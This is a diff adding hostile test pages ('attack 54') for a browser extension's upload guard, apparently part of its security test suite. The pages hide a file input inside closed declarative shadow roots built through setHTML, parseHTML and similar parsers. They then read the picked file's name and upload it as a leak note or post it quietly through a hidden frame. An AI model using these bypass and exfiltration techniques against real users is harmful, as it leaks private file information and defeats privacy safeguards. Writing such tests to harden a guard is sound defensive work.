@@ -1,0 +1,80 @@
+// Hostile pages for the fifty-fourth attack on the upload guard: the survey of
+// inserted nodes (insertions.js framesIn/survey, file-barrier.js
+// withholdInserted), which looks into open shadow roots and the closed ones
+// the page world knows of (remembered from attachShadow, or told by the
+// isolated world: content.js tellClosed, from documents.js's wrappers of the
+// browser's own root makers and its MutationObserver). Chromium's own picker is
+// opened as in attack 44's labeldeep (a span deep inside a DETACHED label
+// holding a file input i, clicked in the person's click on "#open"); here the
+// label sits, before the pick, inside a CLOSED shadow root that the browser
+// made from markup (declarative shadow DOM) by a parser Silbato does not wrap,
+// reached by the page through ElementInternals.shadowRoot of its own custom
+// element. After the pick, the host is connected and the name Chromium draws
+// read (attack 48's findsel). A name learnt goes up as a text note
+// "leak-….txt". Served by server.mjs at /attack54-…; tests: attack54.test.mjs.
+
+import { attackPages, pickerWaysPage } from './uploads.mjs';
+
+/** Upload what was learnt (a name, or a bit) as a text note, once. */
+const leak = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.once54) { window.once54 = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
+
+/** attack 48's findsel on whatever is connected now: window.find('.jpg'), the selection stretched over its line, read back. */
+const findsel = (why) => `getSelection().removeAllRanges(); const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
+        try { sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
+        const got = String(sel); note('${why} ' + JSON.stringify(got));
+        if (/jpg/i.test(got)) leak(got, '${why}');`;
+
+/** A custom element x-h54 whose constructor keeps its ElementInternals (window.int54): its shadowRoot is the declarative root, closed or not. */
+const define = "customElements.define('x-h54', class extends HTMLElement { constructor() { super(); try { window.int54 = this.attachInternals(); } catch (e) { note('internals threw ' + e.name); } } });";
+
+/** Markup of a host x-h54 with a declarative CLOSED shadow root. */
+const MARKUP = "'<x-h54 id=h54><template shadowrootmode=closed><p>in root</p></template></x-h54>'";
+
+/**
+ * `makeHost` (an expression, a function returning a DETACHED host whose closed root the browser made) runs in the
+ * person's click; the label holding i (and the deep span) is appended into the root (through int54.shadowRoot; i
+ * is empty then), the deep span clicked: Chromium's own picker fills i, detached. On change: the host connected
+ * (`connect`), then findsel.
+ */
+const closedPick = (why, makeHost, { connect = 'document.body.append(H);', find = findsel(why), holder = 'if (root) root.append(l);' } = {}) => `
+      ${leak}
+      ${define}
+      document.getElementById('open').addEventListener('click', () => {
+        const l = document.createElement('label'); const i = document.createElement('input'); i.type = 'file'; i.name = 'photo';
+        const x = document.createElement('span'); let t = x; for (let k = 0; k < 70; k++) { const c = document.createElement('span'); t.append(c); t = c; } t.textContent = 'x';
+        l.append(i, x);
+        let H = null; try { H = (${makeHost})(); } catch (e) { note('host threw ' + e.name + ' ' + e.message); }
+        if (H) try { customElements.upgrade(H); } catch (e) { note('upgrade threw ' + e.name); }
+        const root = window.int54 && window.int54.shadowRoot; note('host ' + (H && H.localName) + ' root ' + (root && root.mode) + ' connected ' + (H && H.isConnected) + ' open ' + (H && H.shadowRoot));
+        ${holder}
+        i.addEventListener('change', () => { note('change'); try { ${connect} i.style.width = '600px'; note('i connected ' + i.isConnected + ' w ' + i.offsetWidth);
+          ${find} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
+        try { t.click(); } catch (e) { note('click threw ' + e.name); }
+      });`;
+
+
+/** The label put in a multipart form (posting to /upload into a hidden frame) inside the root, with a submit button b. */
+const inForm = "const fr = document.createElement('iframe'); fr.name = 'sink54'; fr.style.display = 'none'; document.body.append(fr); const f = document.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/upload'; f.target = 'sink54'; const b = document.createElement('button'); b.type = 'submit'; b.textContent = 'go'; f.append(l, b); window.b54 = b; if (root) root.append(f);";
+/** A click on b that stays in its shadow tree (a constructed event is not composed): the form is posted natively. */
+const quietClick = "window.b54.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); note('posted');";
+const sethtmlHost = `() => { const d = document.createElement('div'); d.setHTML(${MARKUP}, { sanitizer: { removeElements: ['script'] } }); return d.firstElementChild; }`;
+
+const HTML_WAYS = {
+  sethtmlpost: closedPick('sethtmlpost', sethtmlHost, { holder: inForm, find: quietClick }),
+  sethtmlclick: closedPick('sethtmlclick', sethtmlHost, { holder: inForm, find: "window.b54.click(); note('clicked');" }),
+  parsehtmlpost: closedPick('parsehtmlpost', `() => { const doc = Document.parseHTML(${MARKUP}, { sanitizer: { removeElements: ['script'] } }); const h = doc.getElementById('h54') || doc.body.firstElementChild; return h && document.adoptNode(h); }`, { holder: inForm, find: quietClick }),
+  attachpost: closedPick('attachpost', "() => { const h = document.createElement('div'); window.int54 = { shadowRoot: h.attachShadow({ mode: 'closed' }) }; return h; }", { holder: inForm, find: quietClick }),
+  // Sanitizer API Element.setHTML (not wrapped by documents.js CLONES) parsing a declarative closed root.
+  sethtml: closedPick('sethtml', `() => { const d = document.createElement('div'); note('setHTML ' + typeof d.setHTML); d.setHTML(${MARKUP}, { sanitizer: { removeElements: ['script'] } }); return d.firstElementChild; }`),
+  // The same with the sanitizer told to keep x-h54 and template.
+  sethtmlkeep: closedPick('sethtmlkeep', `() => { const d = document.createElement('div'); const s = new Sanitizer({ elements: ['x-h54', 'template', 'p'], attributes: ['id', 'shadowrootmode'] }); d.setHTML(${MARKUP}, { sanitizer: s }); note('kept ' + d.innerHTML); return d.firstElementChild; }`),
+  // Sanitizer API Document.parseHTML (static, not wrapped), the host adopted.
+  parsehtml: closedPick('parsehtml', `() => { note('parseHTML ' + typeof Document.parseHTML); const doc = Document.parseHTML(${MARKUP}, { sanitizer: { removeElements: ['script'] } }); const h = doc.getElementById('h54') || doc.body.firstElementChild; return h && document.adoptNode(h); }`),
+  // Reference: setHTMLUnsafe (wrapped: shadow-scan).
+  sethtmlunsafe: closedPick('sethtmlunsafe', `() => { const d = document.createElement('div'); d.setHTMLUnsafe(${MARKUP}); return d.firstElementChild; }`),
+  // Range.createContextualFragment (not wrapped) with declarative markup.
+  contextual: closedPick('contextual', `() => { const r = document.createRange(); r.selectNodeContents(document.body); const f = r.createContextualFragment(${MARKUP}); return f.firstElementChild; }`),
+};
+const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
+export { PICKER_WAYS };
+export const attack54Page = attackPages(54, picker, {});
